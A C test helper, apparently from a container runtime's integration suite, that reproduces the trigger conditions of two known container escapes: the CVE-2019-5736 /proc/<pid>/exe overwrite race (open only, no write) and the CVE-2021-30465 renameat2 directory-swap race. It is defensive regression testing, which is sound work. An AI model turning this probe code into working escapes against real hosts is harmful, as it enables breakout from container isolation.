// cve_attack is the attacker of integration/cve_test.go: the container
// side of the known runtime escapes, built static and run inside a busybox
// container. It only ever probes: it opens for writing and never writes,
// so a raind that is vulnerable fails the test without being damaged.
//
//	cve_attack exe SECONDS
//	    CVE-2019-5736. Watches /proc for a process running a binary that
//	    is neither busybox nor this program (raind's init, entering the
//	    container or re-executed through /proc/self/exe), keeps its
//	    /proc/<pid>/exe open, and tries to reopen that for writing until
//	    SECONDS pass: once the process is gone the binary is no longer
//	    busy, and an open that succeeds could overwrite the host's file.
//	    Prints "caught pid=N", then "write=ok" or "write=errno:E" (the
//	    last error), or "caught=none".
//
//	cve_attack swap DIR SECONDS
//	    CVE-2021-30465. Exchanges DIR/a and DIR/b (renameat2
//	    RENAME_EXCHANGE) as fast as it can for SECONDS.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int same(struct stat *a, struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static int exe_attack(double seconds)
{
	struct stat self, busybox;
	if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0) {
		perror("stat");
		return 1;
	}
	pid_t me = getpid();
	double end = now() + seconds;
	while (now() < end) {
		DIR *d = opendir("/proc");
		if (!d) {
			perror("opendir /proc");
			return 1;
		}
		struct dirent *e;
		while ((e = readdir(d)) != NULL) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 0 || pid == me)
				continue;
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			struct stat st;
			if (fstat(fd, &st) < 0 || same(&st, &self) || same(&st, &busybox)) {
				close(fd);
				continue;
			}
			closedir(d);
			printf("caught pid=%d\n", pid);
			fflush(stdout);
			// Keep trying: the binary is busy (ETXTBSY) while the process
			// still runs it, and writable the moment it is not, if
			// nothing else protects it.
			char again[64];
			snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
			int last = 0;
			double stop = now() + 3;
			while (now() < stop) {
				int w = open(again, O_WRONLY | O_CLOEXEC);
				if (w >= 0) {
					close(w);
					printf("write=ok\n");
					return 0;
				}
				last = errno;
				usleep(1000);
			}
			printf("write=errno:%d\n", last);
			return 0;
		}
		closedir(d);
	}
	printf("caught=none\n");
	return 0;
}

static int swap_attack(const char *dir, double seconds)
{
	int dfd = open(dir, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0) {
		perror(dir);
		return 1;
	}
	printf("swapping\n");
	fflush(stdout);
	double end = now() + seconds;
	unsigned long n = 0;
	while (now() < end) {
		for (int i = 0; i < 1000; i++, n++) {
			if (syscall(SYS_renameat2, dfd, "a", dfd, "b", RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
		}
	}
	printf("swapped=%lu\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "exe") == 0)
		return exe_attack(atof(argv[2]));
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		return swap_attack(argv[2], atof(argv[3]));
	fprintf(stderr, "usage: cve_attack exe SECONDS | swap DIR SECONDS\n");
	return 2;
}
